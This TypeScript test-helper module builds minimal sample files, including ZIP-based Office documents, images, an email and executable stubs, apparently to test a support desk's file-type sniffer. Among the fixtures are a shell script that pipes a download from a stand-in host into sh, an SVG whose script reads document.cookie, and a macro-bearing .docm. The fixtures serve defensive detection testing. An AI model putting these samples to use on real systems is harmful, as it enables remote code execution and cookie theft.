import { crc32 } from "node:zlib";

/**
 * Real files of each kind the desk meets, built byte by byte so the tests need no binary
 * fixtures: the sniffer must recognise them as a program receiving them would.
 */

/** A ZIP archive with stored (uncompressed) entries, in order, with its central directory. */
export function zipOf(entries: [name: string, content: string | Buffer][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, raw] of entries) {
    const content = typeof raw === "string" ? Buffer.from(raw) : raw;
    const nameBytes = Buffer.from(name);
    const crc = crc32(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(content.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, content);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(content.length, 20);
    central.writeUInt32LE(content.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + content.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export const files = {
  pdf: () => Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  png: () =>
    Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from("\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0", "latin1")]),
  jpeg: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from("\0\x10JFIF\0\x01\x01", "latin1"), Buffer.from([0xff, 0xd9])]),
  gif: () => Buffer.from("GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", "latin1"),
  webp: () =>
    Buffer.concat([
      Buffer.from("RIFF"),
      Buffer.from([0x1a, 0, 0, 0]),
      Buffer.from("WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0", "latin1"),
    ]),
  text: (text = "Journal du pare-feu\nConnexion refusée depuis 10.0.0.12\n") => Buffer.from(text),
  csvLatin1: () => Buffer.from("Numéro;Matériel;Salle\n1;Vidéoprojecteur;B12\n", "latin1"),
  eml: () =>
    Buffer.from(
      "Return-Path: <secretariat@lycee.exemple.test>\r\nFrom: Secrétariat <secretariat@lycee.exemple.test>\r\nTo: support@region.exemple.test\r\nSubject: Imprimante en panne\r\nDate: Tue, 1 Dec 2026 08:00:00 +0100\r\nMessage-ID: <abc@lycee.exemple.test>\r\n\r\nL'imprimante de la salle des professeurs ne répond plus.\r\n",
    ),
  docx: () =>
    zipOf([
      ["[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'],
      ["_rels/.rels", "<Relationships/>"],
      ["word/document.xml", "<w:document/>"],
    ]),
  xlsx: () =>
    zipOf([
      ["[Content_Types].xml", "<Types/>"],
      ["xl/workbook.xml", "<workbook/>"],
    ]),
  docm: () =>
    zipOf([
      ["[Content_Types].xml", "<Types/>"],
      ["word/document.xml", "<w:document/>"],
      ["word/vbaProject.bin", Buffer.from([0xd0, 0xcf, 0x11, 0xe0])],
    ]),
  odt: () =>
    zipOf([
      ["mimetype", "application/vnd.oasis.opendocument.text"],
      ["content.xml", "<office:document-content/>"],
      ["META-INF/manifest.xml", "<manifest:manifest/>"],
    ]),
  zip: () => zipOf([["rapport.pdf", "%PDF-1.4\n"]]),
  exe: () => Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0", "latin1"), Buffer.alloc(64), Buffer.from("This program cannot be run in DOS mode.")]),
  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]), Buffer.alloc(57)]),
  shellScript: () => Buffer.from("#!/bin/sh\ncurl http://exemple.test/x | sh\n"),
  svg: () => Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
  html: () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>"),
  unknown: () => Buffer.from([0x00, 0x01, 0x02, 0x03, 0xfe, 0xfa, 0x00, 0x10]),
};
